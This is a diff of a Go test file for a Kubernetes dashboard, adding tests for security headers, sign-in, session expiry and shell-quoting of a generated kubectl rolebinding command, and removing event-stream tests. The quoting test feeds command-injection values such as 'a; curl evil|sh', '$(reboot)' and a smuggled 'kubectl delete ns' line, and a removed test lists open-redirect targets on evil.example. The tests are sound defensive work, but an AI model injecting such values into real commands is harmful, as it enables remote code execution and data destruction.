@@ -4,21 +4,18 @@
 package dashboard
 
 import (
-	"bufio"
 	"compress/gzip"
-	"context"
-	"fmt"
+	"crypto/tls"
+	"errors"
 	"net/http"
 	"net/http/httptest"
-	"runtime"
-	"slices"
 	"strings"
 	"testing"
-	"time"
 
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	praxisv1 "github.com/praxis-dev/praxis/api/v1alpha1"
+	"github.com/praxis-dev/praxis/internal/dashboard/identity"
 )
 
 func TestEveryAnswerTellsABrowserWhatItMayDo(t *testing.T) {
@@ -28,6 +25,37 @@ func TestEveryAnswerTellsABrowserWhatItMayDo(t *testing.T) {
 		if h.Get("Content-Security-Policy") != policy || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cross-Origin-Opener-Policy") != "same-origin" || h.Get("X-Frame-Options") != "DENY" {
 			t.Errorf("%s answers with %v", path, h)
 		}
+	}
+}
+
+func TestWhatIsReachedByHTTPSStaysSo(t *testing.T) {
+	s := newStage(t, "thursday.yaml", mira)
+	for name, c := range map[string]struct{ tls, want bool }{"plainly": {}, "by itself": {tls: true, want: true}} {
+		r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/healthz", nil)
+		if c.tls {
+			r.TLS = &tls.ConnectionState{}
+		}
+		handler, err := New(Options{Who: s, Access: stageAccess{s}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		w := httptest.NewRecorder()
+		handler.ServeHTTP(w, r)
+		if (w.Header().Get("Strict-Transport-Security") != "") != c.want || w.Header().Get("Referrer-Policy") != "same-origin" {
+			t.Errorf("%s: it answers with %v", name, w.Header())
+		}
+	}
+}
+
+func TestADashboardWithASignInStarts(t *testing.T) {
+	s := newStage(t, "thursday.yaml", "")
+	s.routes = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusTeapot) })
+	var err error
+	if s.handler, err = New(Options{Who: s, Access: stageAccess{s}}); err != nil {
+		t.Fatal(err)
+	}
+	if code, _, _ := s.get(t, "/auth/login"); code != http.StatusTeapot {
+		t.Errorf("the sign-in answered %d", code)
 	}
 }
 
@@ -74,6 +102,36 @@ func TestWhoeverMayReadNothingIsToldSo(t *testing.T) {
 	}
 }
 
+func TestTheCommandForAnAdministratorIsOneCommand(t *testing.T) {
+	for user, want := range map[string]string{
+		"mira@example.com":     "--user=mira@example.com",
+		"oidc:mira":            "--user=oidc:mira",
+		"a; curl evil|sh":      "--user='a; curl evil|sh'",
+		"$(reboot)":            "--user='$(reboot)'",
+		"o'hara":               `--user='o'\''hara'`,
+		"a\nkubectl delete ns": "--user='a kubectl delete ns'",
+	} {
+		if got := grant("platform", user); got != "kubectl create rolebinding praxis-view -n platform --clusterrole=praxis-view "+want {
+			t.Errorf("%q is named by %s", user, got)
+		}
+	}
+	s := newStage(t, "thursday.yaml", "a b")
+	s.denied = func(string, string) bool { return true }
+	if _, body, _ := s.get(t, "/"); !strings.Contains(body, "-n NAMESPACE --clusterrole=praxis-view --user=&#39;a b&#39;") {
+		t.Errorf("the page has another command: %s", body)
+	}
+}
+
+func TestWhyNobodyKnowsSomebodyIsSaidAsItIs(t *testing.T) {
+	s := newStage(t, "thursday.yaml", "")
+	for err, want := range map[error]int{errors.New("100%d of it is away"): http.StatusServiceUnavailable, &identity.Refusal{Message: "100%d of it is refused"}: http.StatusForbidden} {
+		s.unknown = err
+		if code, body, _ := s.get(t, "/"); code != want || !strings.Contains(body, "100%d of it is") || strings.Contains(body, "%!") {
+			t.Errorf("%v answered %d: %s", err, code, body)
+		}
+	}
+}
+
 func TestThatTheClusterIsSilentIsSaid(t *testing.T) {
 	s := newStage(t, "thursday.yaml", mira)
 	s.silent = errSilent
@@ -82,6 +140,41 @@ func TestThatTheClusterIsSilentIsSaid(t *testing.T) {
 	}
 	if code, body, _ := s.get(t, "/healthz"); code != http.StatusServiceUnavailable || strings.Contains(body, "15:10") {
 		t.Errorf("it is healthy: %d %s", code, body)
+	}
+}
+
+func TestAnOpenPageSaysThatItIsOld(t *testing.T) {
+	s := newStage(t, "thursday.yaml", mira)
+	_, lines := s.stream(t, "of=/map")
+	next(t, lines, "id: ")
+	s.waitForLook(t)
+	s.silent = errSilent
+	s.changed()
+	for !strings.Contains(next(t, lines, "data: "), "silent since 15:10 UTC") {
+	}
+}
+
+func TestWhatIsSentAfterTheSessionHasEndedIsNotLost(t *testing.T) {
+	s := newStage(t, "thursday.yaml", "")
+	s.routes = http.NotFoundHandler()
+	code, body, _ := s.post(t, "/do/judge", "namespace", "platform", "name", "dry-run", "version", dryRun, "decision", "Rejected", "note", "The <third> run is missing")
+	if code != http.StatusUnauthorized {
+		t.Errorf("it answered %d", code)
+	}
+	for _, kept := range []string{`action="/do/judge"`, "The &lt;third&gt; run is missing</textarea>", `name="decision" value="Rejected"`, `name="version" value="` + dryRun + `"`, `href="/auth/login?next=`} {
+		if !strings.Contains(body, kept) {
+			t.Errorf("it has no %s: %s", kept, body)
+		}
+	}
+	if code, _, _ := s.get(t, "/events?of=/"); code != http.StatusUnauthorized {
+		t.Errorf("the stream of whoever is signed out answered %d", code)
+	}
+	if code, _, h := s.get(t, "/map?namespace=platform"); code != http.StatusSeeOther || h.Get("Location") != "/auth/login?next=%2Fmap%3Fnamespace%3Dplatform" {
+		t.Errorf("a page answered %d %s", code, h.Get("Location"))
+	}
+	s.user = mira
+	if _, body, _ := s.get(t, "/map"); !strings.Contains(body, `id="signedout"`) || !strings.Contains(body, `action="/auth/logout"`) {
+		t.Error("a page cannot say that its session has ended, or end it")
 	}
 }
 
@@ -116,171 +209,5 @@ func TestWhatABrowserLoadsIsSmall(t *testing.T) {
 	_, body, h := s.get(t, assets.js, "Accept-Encoding", "gzip")
 	if _, err := gzip.NewReader(strings.NewReader(body)); err != nil || h.Get("Content-Encoding") != "gzip" || !strings.Contains(h.Get("Cache-Control"), "immutable") {
 		t.Errorf("the script comes with %v: %v", h, err)
-	}
-}
-
-// stream opens the events of a page.
-func (s *stage) stream(t *testing.T, query string, headers ...string) (*http.Response, *bufio.Scanner) {
-	t.Helper()
-	server := httptest.NewServer(s.handler)
-	t.Cleanup(func() { server.CloseClientConnections(); server.Close() })
-	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, server.URL+"/events?"+query, nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	for i := 0; i+1 < len(headers); i += 2 {
-		r.Header.Set(headers[i], headers[i+1])
-	}
-	answer, err := http.DefaultClient.Do(r)
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { answer.Body.Close() })
-	lines := bufio.NewScanner(answer.Body)
-	lines.Buffer(nil, 1<<20)
-	return answer, lines
-}
-
-// next is the first line that begins so.
-func next(t *testing.T, lines *bufio.Scanner, with string) string {
-	t.Helper()
-	for lines.Scan() {
-		if strings.HasPrefix(lines.Text(), with) {
-			return lines.Text()
-		}
-	}
-	t.Fatalf("the stream ended without %q: %v", with, lines.Err())
-	return ""
-}
-
-func TestAStreamSendsAPageWhenItHasChangedAndNotBefore(t *testing.T) {
-	s := newStage(t, "thursday.yaml", mira)
-	_, page, _ := s.get(t, "/map")
-	at := between(page, "at=", "&amp;")
-	answer, lines := s.stream(t, "of=/map&at="+at)
-	if answer.Header.Get("X-Accel-Buffering") != "no" || !strings.HasPrefix(answer.Header.Get("Content-Type"), "text/event-stream") {
-		t.Errorf("the stream comes with %v", answer.Header)
-	}
-	next(t, lines, ": as it was")
-	s.await(t, 1)
-	u := &praxisv1.Utility{}
-	if err := s.Get(t.Context(), client.ObjectKey{Namespace: "platform", Name: "safe-deploys"}, u); err != nil {
-		t.Fatal(err)
-	}
-	u.Spec.Statement = "Something else"
-	if err := s.Update(t.Context(), u); err != nil {
-		t.Fatal(err)
-	}
-	s.changed()
-	id := strings.TrimPrefix(next(t, lines, "id: "), "id: ")
-	for !strings.Contains(next(t, lines, "data: "), "Something else") {
-	}
-	// Whoever has it already is sent nothing again.
-	_, again := s.stream(t, "of=/map&at="+at, "Last-Event-ID", id)
-	next(t, again, ": as it was")
-}
-
-func TestAStreamEndsWithTheRightAndAfterAWhile(t *testing.T) {
-	s := newStage(t, "thursday.yaml", mira)
-	answer, lines := s.stream(t, "of=/")
-	next(t, lines, "id: ")
-	for !s.timer.HasWaiters() {
-		time.Sleep(time.Millisecond)
-	}
-	s.timer.Step(heartbeat)
-	next(t, lines, ": here")
-	s.timer.Step(streamEnds)
-	for lines.Scan() {
-	}
-	if lines.Err() != nil {
-		t.Errorf("the stream ended with %v after %s", lines.Err(), answer.Status)
-	}
-}
-
-func TestThereAreOnlySoManyStreams(t *testing.T) {
-	s := newStage(t, "thursday.yaml", mira)
-	for range perPerson {
-		_, lines := s.stream(t, "of=/me")
-		next(t, lines, "id: ")
-	}
-	if answer, _ := s.stream(t, "of=/map"); answer.StatusCode != http.StatusServiceUnavailable || answer.Header.Get("Retry-After") == "" {
-		t.Errorf("one more stream than there may be answered %s", answer.Status)
-	}
-	for _, of := range []string{"/events?of=/", "/static/x", "/do/submit", "//evil.example/", "https://evil.example/", "/auth/"} {
-		if code, _, _ := s.get(t, "/events?of="+strings.ReplaceAll(of, "?", "%3F")); code != http.StatusForbidden {
-			t.Errorf("a stream of %s answered %d", of, code)
-		}
-	}
-}
-
-// await waits until so many pages wait for a change.
-func (s *stage) await(t *testing.T, pages int) {
-	t.Helper()
-	for began := time.Now(); ; time.Sleep(time.Millisecond) {
-		s.mu.Lock()
-		n := len(s.told)
-		s.mu.Unlock()
-		if n == pages {
-			return
-		}
-		if time.Since(began) > 20*time.Second {
-			t.Fatalf("%d pages wait for a change, and not %d", n, pages)
-		}
-	}
-}
-
-func TestTwoHundredPagesSeeAChangeAndLeaveNothingBehind(t *testing.T) {
-	s := newStage(t, "thursday.yaml", mira)
-	server := httptest.NewServer(s.handler)
-	defer server.Close()
-	before := runtime.NumGoroutine()
-	ctx, cancel := context.WithCancel(t.Context())
-	seen := make(chan time.Time, 200)
-	transport := &http.Transport{}
-	for i := range 200 {
-		r, err := http.NewRequestWithContext(ctx, http.MethodGet, server.URL+"/events?of=/map", nil)
-		if err != nil {
-			t.Fatal(err)
-		}
-		r.Header.Set("Test-Person", fmt.Sprintf("person-%d@example.com", i%20))
-		answer, err := (&http.Client{Transport: transport}).Do(r)
-		if err != nil {
-			t.Fatal(err)
-		}
-		go func() {
-			defer answer.Body.Close()
-			lines := bufio.NewScanner(answer.Body)
-			lines.Buffer(nil, 1<<20)
-			for lines.Scan() {
-				if strings.Contains(lines.Text(), "Something else") {
-					seen <- time.Now()
-				}
-			}
-		}()
-	}
-	s.await(t, 200)
-	u := &praxisv1.Utility{}
-	if err := s.Get(ctx, client.ObjectKey{Namespace: "platform", Name: "safe-deploys"}, u); err != nil {
-		t.Fatal(err)
-	}
-	u.Spec.Statement = "Something else"
-	if err := s.Update(ctx, u); err != nil {
-		t.Fatal(err)
-	}
-	began := time.Now()
-	s.changed()
-	var took []time.Duration
-	for range 200 {
-		took = append(took, (<-seen).Sub(began))
-	}
-	slices.Sort(took)
-	t.Logf("200 pages saw a change within %s, 95 of a hundred within %s", took[199].Round(time.Millisecond), took[189].Round(time.Millisecond))
-	cancel()
-	s.await(t, 0)
-	transport.CloseIdleConnections()
-	for deadline := time.Now().Add(10 * time.Second); runtime.NumGoroutine() > before+5; time.Sleep(10 * time.Millisecond) {
-		if time.Now().After(deadline) {
-			t.Fatalf("%d goroutines are left, of %d before", runtime.NumGoroutine(), before)
-		}
 	}
 }
